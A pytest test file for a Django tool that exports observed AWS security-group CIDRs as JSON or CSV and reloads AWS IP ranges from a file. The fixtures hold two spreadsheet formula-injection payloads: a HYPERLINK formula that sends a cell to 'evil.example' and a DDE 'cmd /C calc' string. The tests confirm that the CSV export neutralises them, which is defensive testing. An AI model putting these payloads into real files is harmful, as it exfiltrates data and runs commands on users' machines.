"""`export --kind unknown-ips` (issue 4 item 7, PRODUCT.md's shape) and
`load_aws_ip_ranges FILE` (item 2: AWS's ranges refreshed from a file, all or nothing)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import boto3
import pytest
from django.core.management import CommandError, call_command

from inventory.models import Account
from ips import actions
from ips.actions import Target
from ips.models import AwsIpRangeSet, ObservedCidr
from ips.refresh import refresh_after_sync
from tests.ips.test_classify import group, rule

pytestmark = pytest.mark.django_db

HOME = "ap-northeast-1"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REFERENCE_KEYS = {
    "resource_type",
    "resource_id",
    "region",
    "direction",
    "protocol",
    "from_port",
    "to_port",
    "description",
}
CLASSES = {"unknown", "internet", "own-vpc", "known-network", "aws", "annotated"}


@pytest.fixture
def account(
    aws: boto3.Session, make_account: Any, run_sync: Any, django_capture_on_commit_callbacks: Any
) -> Account:
    ec2 = aws.client("ec2", region_name=HOME)
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    sg = ec2.create_security_group(GroupName="honban-web", Description="web", VpcId=vpc)
    ec2.authorize_security_group_ingress(
        GroupId=sg["GroupId"],
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 22,
                "ToPort": 22,
                "IpRanges": [
                    {"CidrIp": "203.0.113.45/32"},
                    {"CidrIp": "198.51.100.0/24", "Description": FORMULA},
                    {"CidrIp": "10.0.3.0/24", "Description": "app subnet"},
                    {"CidrIp": "13.112.10.20/32", "Description": "monitoring"},
                    {"CidrIp": "0.0.0.0/0", "Description": "temporary"},
                ],
            }
        ],
    )
    account = make_account("legacy", regions=[HOME])
    with django_capture_on_commit_callbacks(execute=True):
        assert run_sync(account).status == "complete"
    actions.answer(
        Target("198.51.100.0/24"), owner="=cmd|' /C calc'!A0", purpose="old office", actor=None
    )
    return account


def export(name: str, fmt: str = "json") -> str:
    out = io.StringIO()
    call_command("export", name, kind="unknown-ips", format=fmt, stdout=out)
    return out.getvalue()


def test_the_json_export_lists_every_cidr_seen_in_product_md_shape(account: Account) -> None:
    rows = json.loads(export("legacy"))

    assert {r["cidr"]: r["classification"] for r in rows} == dict(
        ObservedCidr.objects.filter(account=account).values_list("cidr", "classification")
    )
    by_cidr = {r["cidr"]: r for r in rows}
    assert {c: by_cidr[c]["classification"] for c in by_cidr if c != "::/0"} == {
        "203.0.113.45/32": "unknown",
        "198.51.100.0/24": "annotated",
        "10.0.3.0/24": "own-vpc",
        "13.112.10.20/32": "aws",
        "0.0.0.0/0": "internet",
    }
    for row in rows:
        assert {"cidr", "classification", "references", "annotation"} <= set(row)
        assert row["classification"] in CLASSES
        assert row["references"], row["cidr"]
        for ref in row["references"]:
            assert set(ref) >= REFERENCE_KEYS
    unknown = by_cidr["203.0.113.45/32"]
    assert unknown["annotation"] is None
    ssh = [r for r in unknown["references"] if r["direction"] == "ingress"]
    assert [(r["resource_type"], r["region"], r["protocol"], r["from_port"], r["to_port"])
            for r in ssh] == [("AWS::EC2::SecurityGroup", HOME, "tcp", 22, 22)]  # fmt: skip
    office = by_cidr["198.51.100.0/24"]
    assert office["references"][0]["description"] == FORMULA  # JSON keeps it verbatim
    assert office["annotation"]["owner"] == "=cmd|' /C calc'!A0"
    assert office["annotation"]["status"] == "answered"
    assert office["annotation"]["scope"] == "all accounts"


def test_the_csv_export_has_one_row_per_reference_with_formulas_neutralised(
    account: Account,
) -> None:
    rows = list(csv.DictReader(io.StringIO(export("legacy", "csv"))))

    assert {"cidr", "classification", *REFERENCE_KEYS, "annotation_owner"} <= set(rows[0])
    assert {r["cidr"] for r in rows} == set(
        ObservedCidr.objects.filter(account=account).values_list("cidr", flat=True)
    )
    (office,) = [r for r in rows if r["cidr"] == "198.51.100.0/24"]
    assert office["description"] == "'" + FORMULA  # a spreadsheet shows it, never runs it
    assert office["annotation_owner"] == "'=cmd|' /C calc'!A0"
    assert (office["classification"], office["from_port"], office["to_port"]) == (
        "annotated",
        "22",
        "22",
    )
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), row


def test_an_unknown_account_name_is_an_error() -> None:
    with pytest.raises(CommandError, match="No account named 'nobody'"):
        export("nobody")


# --- load_aws_ip_ranges ----------------------------------------------------------------------


def ranges_file(tmp_path: Path, name: str, content: Any) -> Path:
    path = tmp_path / name
    path.write_text(content if isinstance(content, str) else json.dumps(content))
    return path


OFFICIAL = {
    "syncToken": "1733177348",
    "createDate": "2024-12-02-22-09-08",
    "prefixes": [
        {"ip_prefix": "13.112.0.0/14", "region": "ap-northeast-1", "service": "AMAZON",
         "network_border_group": "ap-northeast-1"},
        {"ip_prefix": "13.112.0.0/14", "region": "ap-northeast-1", "service": "EC2",
         "network_border_group": "ap-northeast-1"},
        {"ip_prefix": "203.0.113.0/24", "region": "us-east-1", "service": "CLOUDFRONT",
         "network_border_group": "us-east-1"},
    ],
    "ipv6_prefixes": [
        {"ipv6_prefix": "2406:da14::/32", "region": "ap-northeast-1", "service": "EC2",
         "network_border_group": "ap-northeast-1"},
    ],
}  # fmt: skip


def load(path: Path) -> str:
    out = io.StringIO()
    call_command("load_aws_ip_ranges", str(path), stdout=out)
    return out.getvalue()


def detail(account: Account, cidr: str) -> tuple[str, str]:
    row = ObservedCidr.objects.get(account=account, cidr=cidr)
    return row.classification, row.detail


def test_loading_the_official_file_reclassifies_with_service_and_region(
    account: Account, tmp_path: Path
) -> None:
    assert detail(account, "13.112.10.20/32") == ("aws", "AWS published range")  # bundled
    assert detail(account, "203.0.113.45/32") == ("unknown", "")

    printed = load(ranges_file(tmp_path, "ip-ranges.json", OFFICIAL))

    assert "Loaded 4 AWS prefixes dated 2024-12-02-22-09-08; 2 observed CIDRs" in printed
    assert detail(account, "13.112.10.20/32") == ("aws", "AWS EC2 ap-northeast-1")
    assert detail(account, "203.0.113.45/32") == ("aws", "AWS CLOUDFRONT us-east-1")
    # An answer still beats AWS's ranges.
    assert detail(account, "198.51.100.0/24")[0] == "annotated"
    assert AwsIpRangeSet.objects.get().prefix_count == 4


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("<html>rate limited</html>", "is not JSON"),
        ({"syncToken": "1"}, 'it has no "prefixes" list'),
        ([1, 2], 'it has no "prefixes" list'),
        ({"prefixes": []}, "lists no prefixes; nothing was loaded"),
        (
            {"prefixes": [{"ip_prefix": "3.2.0.0/24"}, {"ip_prefix": "3.2.0.999/24"}]},
            "prefixes[2]: '3.2.0.999/24' is not a CIDR; nothing was loaded",
        ),
        (
            {"prefixes": [{"ip_prefix": "3.2.0.0/24"}], "ipv6_prefixes": [{"ipv6_prefix": None}]},
            "ipv6_prefixes[1]: None is not a CIDR",
        ),
    ],
)
def test_a_malformed_file_is_refused_and_the_previous_ranges_stay(
    make_account: Any, tmp_path: Path, content: Any, message: str
) -> None:
    account = make_account("legacy")
    group(account, "sg-monitoring", rule("13.112.10.20/32", 10050))
    refresh_after_sync(account)
    load(ranges_file(tmp_path, "good.json", OFFICIAL))
    current = AwsIpRangeSet.objects.get()

    with pytest.raises(CommandError) as error:
        load(ranges_file(tmp_path, "bad.json", content))

    assert message in str(error.value)
    assert list(AwsIpRangeSet.objects.all()) == [current]
    assert current.ranges.count() == 4
    assert detail(account, "13.112.10.20/32") == ("aws", "AWS EC2 ap-northeast-1")


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="cannot read .*nowhere.json"):
        load(tmp_path / "nowhere.json")
    assert not AwsIpRangeSet.objects.exists()
